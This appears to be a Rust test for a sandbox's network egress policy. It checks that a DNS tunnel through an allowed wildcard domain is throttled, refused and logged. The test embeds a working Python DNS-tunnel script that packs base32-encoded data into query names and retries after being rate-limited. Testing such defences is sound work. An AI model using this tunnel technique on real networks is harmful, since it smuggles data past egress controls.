//! Data carried out in the names that a sandbox asks for.

use egress_tests::World;
use egress_tests::address::ALLOWED_V4;
use std::collections::BTreeSet;

const POLICY: &str = "apiVersion: egress/v1\nname: tunnel\nallowlist:\n  a:\n    \
    - { domain: \"*.wild.example\", protocols: [https] }\n    \
    - { domain: allowed.example, protocols: [https] }\n";

/// What a DNS tunnel does: data in base32, as much as fits into each name, over
/// several record types, as fast as the gate's bound on queries lets it.
const TUNNEL: &str = r#"
import base64, os, socket, struct, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
def ask(name, kind, number):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    query = struct.pack(">6H", number, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)
    try:
        s.sendto(query, ("192.0.2.1", 53))
    except PermissionError:
        # 500 in this tenth of a second: the next begins within it.
        time.sleep(0.2)
        s.sendto(query, ("192.0.2.1", 53))
    while True:
        answer = s.recv(4096)
        if answer[:2] == struct.pack(">H", number):
            return answer[3] & 15
codes = {}
for number in range(600):
    text = base64.b32encode(os.urandom(112)).decode().rstrip("=").lower()
    name = ".".join([text[:60], text[60:120], text[120:179], "wild.example"])
    code = ask(name, [1, 28, 65][number % 3], number)
    codes[code] = codes.get(code, 0) + 1
print("codes", sorted(codes.items()))
print("allowed", ask("allowed.example", 1, 1000))
"#;

#[test]
fn a_tunnel_through_an_allowed_wildcard_runs_dry() {
    let Some(world) = World::or_skip("exfiltration: a tunnel") else {
        return;
    };
    world
        .dns
        .resolve_below("wild.example", &[ALLOWED_V4.into()]);
    world.dns.resolve("allowed.example", &[ALLOWED_V4.into()]);
    let sandbox = world.sandbox(POLICY);
    let (status, lines, errors) = sandbox.run(["/usr/bin/python3", "-c", TUNNEL]).finish();
    assert!(status.success(), "{lines:?} {errors}");

    let heard: BTreeSet<String> = world
        .dns
        .asked()
        .into_iter()
        .filter_map(|asked| Some(asked.name.strip_suffix(".wild.example")?.to_owned()))
        .collect();
    let bytes: usize = heard.iter().map(|name| name.replace('.', "").len()).sum();
    assert!(bytes > 0, "the first names pass");
    // 4,096 bytes at once and what is earned while it runs, a few seconds.
    assert!(
        bytes <= 6_000,
        "{bytes} bytes in {} names came through",
        heard.len()
    );

    // 5 is REFUSED. Names that rules spell out are not touched.
    assert!(lines.iter().any(|line| line.contains("(5, 5")), "{lines:?}");
    assert!(lines.contains(&"allowed 0".to_owned()), "{lines:?}");
    let refused = sandbox
        .audit()
        .into_iter()
        .filter(|record| record["reason"] == "name_budget");
    assert!(refused.count() > 100, "the attempt is evidence");
}
